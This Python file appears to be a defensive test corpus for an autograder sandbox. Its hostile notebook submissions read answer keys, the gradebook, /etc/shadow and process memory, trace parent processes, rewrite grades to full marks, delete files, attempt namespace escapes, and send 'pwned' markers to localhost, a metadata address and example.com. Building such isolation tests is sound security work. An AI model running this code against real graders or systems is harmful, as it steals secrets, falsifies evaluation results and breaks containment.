"""Notebooks that look for what they should not see, and print or send all that they find.

What counts is not whether they find a file, but whether a canary, a line of reference code or an expected value
turns up in anything that the submission leaves behind.
"""

from autograder.audit.corpus import hostile

LOOK = r"""
import os, re, sys, glob
CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}|fourth_power|class Misconception|[0-9a-f]{64}")
def look(path):
    try:
        with open(path, "rb") as file:
            data = file.read(20_000_000)
    except Exception as error:
        return
    found = set(CANARY.findall(data))
    if found:
        print(path, sorted(found)[:50])
"""


def reads(name, idea, code, **more):
    return hostile(name, idea, last=LOOK + code, **more)


reads("relative-paths", "solutions, gradebook and secret by paths from where it runs", """
for up in ("", "..", "../..", "../../..", "../../../..", "../../../../.."):
    for place in ("solutions", "source", "release", "gradebook.db", ".secret", "submitted", "nbgrader_config.py",
                  "autograded", "archive", "assignments", "feedback", ".cache"):
        for path in glob.glob(os.path.join(up, place)) + glob.glob(os.path.join(up, place, "**"), recursive=True):
            look(path)
""")
reads("absolute-paths", "the course's own files, by their real names", """
look("@COURSE@/.secret"), look("@COURSE@/gradebook.db"), look("@COURSE@/nbgrader_config.py")
for path in glob.glob("@COURSE@/**", recursive=True):
    look(path)
for path in glob.glob("@PACKAGE@/**", recursive=True) + ["@PACKAGE@/questions/kl_divergence.py"]:
    look(path)
""")
reads("gradebook", "opens the gradebook with sqlite3, to read and to write", """
import sqlite3
for path in ("@COURSE@/gradebook.db", "gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        base = sqlite3.connect(path)
        print(base.execute("select * from student").fetchall())
        base.execute("update grade set auto_score = 3, manual_score = 3"), base.commit()
    except Exception as error:
        print(type(error))
    if not os.path.samefile(os.path.dirname(path) or ".", "."):
        continue
    for left in glob.glob("gradebook.db*"):
        os.remove(left)
""")
reads("file-system", "walks over everything but the system and Python", """
skip = ("/proc", "/sys", "/usr", "/lib", "/dev", sys.prefix, sys.base_prefix)
for folder, names, files in os.walk("/"):
    names[:] = [name for name in names if not os.path.join(folder, name).startswith(skip)]
    for name in files:
        look(os.path.join(folder, name))
""")
reads("packages", "reference code among the installed packages", """
import importlib, importlib.util
for name in ("autograder", "autograder.questions", "autograder.questions.kl_divergence", "autograder.secret", "solutions"):
    try:
        module = importlib.import_module(name)
        print(module, getattr(module, "__path__", ""))
        import inspect
        print(inspect.getsource(module)[:5000])
    except Exception as error:
        print(name, error)
from importlib.metadata import distributions
for one in distributions():
    if "vae" in (one.metadata["Name"] or "").lower():
        for file in one.files or []:
            look(one.locate_file(file))
            print(one.read_text("direct_url.json"))
for entry in [*sys.path, "@PACKAGE@", os.path.dirname("@PACKAGE@")]:
    for path in glob.glob(os.path.join(entry, "autograder*", "**", "*.py*"), recursive=True):
        look(path)
""")
reads("home", "the grader's home", """
for home in ("@HOME@", os.path.expanduser("~"), os.path.expanduser("~root"), "/root", "/home/*"):
    for path in glob.glob(os.path.join(home, ".*")) + glob.glob(os.path.join(home, "**"), recursive=True):
        look(path)
""")
reads("environment", "environment variables of all processes in sight", """
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    look(path)
""")
reads("proc", "other processes through /proc: roots, open files, memory", """
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid()), "1"]:
    for place in (f"/proc/{pid}/root@COURSE@/.secret", f"/proc/{pid}/cwd/.secret", f"/proc/{pid}/cwd/gradebook.db"):
        look(place)
    for path in glob.glob(f"/proc/{pid}/fd/*") if pid != str(os.getpid()) else []:
        look(path)
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            if pid == str(os.getpid()):
                continue
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if end - start < 2**26 and "[heap]" in line:
                    memory.seek(start)
                    print(pid, CANARY.findall(memory.read(end - start))[:50])
    except Exception as error:
        print(pid, error)
""")
reads("ptrace", "traces its parent, and reads its memory by system call", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    print(libc.ptrace(16, pid, None, None), ctypes.get_errno())
    buffer = ctypes.create_string_buffer(4096)
    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    mine, theirs = Piece(ctypes.addressof(buffer), 4096), Piece(0x400000, 4096)
    print(libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
""")
hostile("frames", "the checker's text and locals through frames, while it is asked", answers={"kl_divergence": """
import sys, linecache
seen = []
def kl_divergence(mu, logvar):
    frame = sys._getframe(1)
    while frame:
        code = frame.f_code
        seen.append((code.co_filename, code.co_name, sorted(frame.f_locals), repr(code.co_consts)[:3000]))
        for name, value in frame.f_locals.items():
            if "expected" in name or name in ("key", "seed", "secret"):
                seen.append((name, repr(value)[:2000]))
        frame = frame.f_back
    return mu * 0
"""}, last="print(seen[:200])")
NUMBERS = """
def numbers(objects):
    out = set()
    for one in objects:
        if type(one) is torch.Tensor and 0 < one.numel() <= 40 and one.layout == torch.strided and one.device.type == "cpu":
            out |= {f"{value:.5f}" for value in one.detach().double().flatten().tolist()}
    return out
"""
hostile("memory", "every number in every small tensor that the kernel holds while it is asked", answers={
    "kl_divergence": NUMBERS + """
import gc
kept = set()
def kl_divergence(mu, logvar):
    kept.update(numbers(gc.get_objects()))
    return mu * 0
"""}, last="print(sorted(kept))")
hostile("strings", "canaries in all strings and byte strings of the kernel's memory", first=r"""
import gc, re
def strings():
    out, queue, seen = set(), gc.get_objects(), set()
    for one in queue:
        for part in gc.get_referents(one) if isinstance(one, (dict, list, tuple, set)) else ():
            if type(part) in (str, bytes) and id(part) not in seen:
                seen.add(id(part))
                text = part if isinstance(part, str) else part.decode("latin-1")
                out |= set(re.findall(r"canary-[a-z]+-[0-9a-f]{16}|[0-9a-f]{64}", text))
    return out
""", last="""
print(strings())
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if "[heap]" in line or "[stack]" in line:
            memory.seek(start)
            print(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", memory.read(end - start)))
""")
hostile("request", "the kernel's own requests, history and connection file", last="""
import os
shell = get_ipython()
print(shell.kernel.get_parent("shell"))
print(list(shell.history_manager.get_range(raw=True)), shell.user_ns.get("In"))
print(shell.kernel.config, os.environ)
from ipykernel.connect import get_connection_file
print(open(get_connection_file()).read())
""")
reads("sockets", "connects to the grader over TCP, UDP and abstract Unix sockets", """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "host.docker.internal", "169.254.169.254", "::1"):
    for port in (@PORT@, 80):
        try:
            socket.create_connection((host, port), 0.3).sendall(b"pwned-@NAME@")
        except Exception as error:
            print(host, error)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"pwned-@NAME@", (host, @PORT@))
    except Exception as error:
        print(host, error)
try:
    one = socket.socket(socket.AF_UNIX)
    one.connect("\\0canary-@PORT@")
    one.sendall(b"pwned-@NAME@")
except Exception as error:
    print(error)
""")
reads("network", "fetches, sends and asks for names", """
import socket, urllib.request
for address in ("http://127.0.0.1:@PORT@/pwned-@NAME@", "http://example.com/pwned-@NAME@"):
    try:
        print(urllib.request.urlopen(address, timeout=0.5).read(100))
    except Exception as error:
        print(error)
try:
    print(socket.getaddrinfo("example.com", 80))
except Exception as error:
    print(error)
""")
reads("devices", "disks, kernel memory, shared memory and logs", """
for path in glob.glob("/dev/*") + glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*") + glob.glob("/var/log/*"):
    if os.path.basename(path) not in ("zero", "full", "random", "urandom", "tty", "console", "ptmx", "stdin"):
        look(path)
for path in ("/proc/kcore", "/proc/kmsg", "/proc/sysvipc/shm", "/proc/keys", "/proc/self/mountinfo", "/etc/shadow"):
    look(path)
""")
reads("escape-calls", "new namespaces, mounts, chroot, io_uring, files by handle", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, arguments in {"unshare": (0x10000000,), "setns": (3, 0), "mount": (b"/", b"/tmp", b"none", 4096, None),
                        "chroot": (b"/tmp",), "pivot_root": (b"/tmp", b"/tmp"), "syscall": (425, 8, None),
                        "keyctl": (0, -3), "setuid": (0,), "setresuid": (0, 0, 0), "umount2": (b"@PACKAGE@", 2)}.items():
    try:
        print(name, getattr(libc, name)(*arguments), ctypes.get_errno())
    except Exception as error:
        print(name, error)
look("@COURSE@/.secret"), look("@PACKAGE@/questions/kl_divergence.py")
""")
reads("socket-swapped", "puts a link to the secret in the place of the kernel's own sockets", """
for path in glob.glob("/run/kernel/*"):
    try:
        os.remove(path)
        os.symlink("@COURSE@/.secret", path)
    except OSError as error:
        print(error)
""")
hostile("guesses-the-seed", "tries the course's seeds: numbers, the task, the public one", answers={"kl_divergence": """
import random
state = torch.get_rng_state()
def kl_divergence(mu, logvar):
    seed = torch.initial_seed()
    torch.Generator().manual_seed(seed)
    return torch.rand(len(mu), generator=torch.Generator().manual_seed(seed & 0xffffffff)) + 0 * mu.sum(1, keepdim=True)
"""}, last="print(torch.initial_seed())")
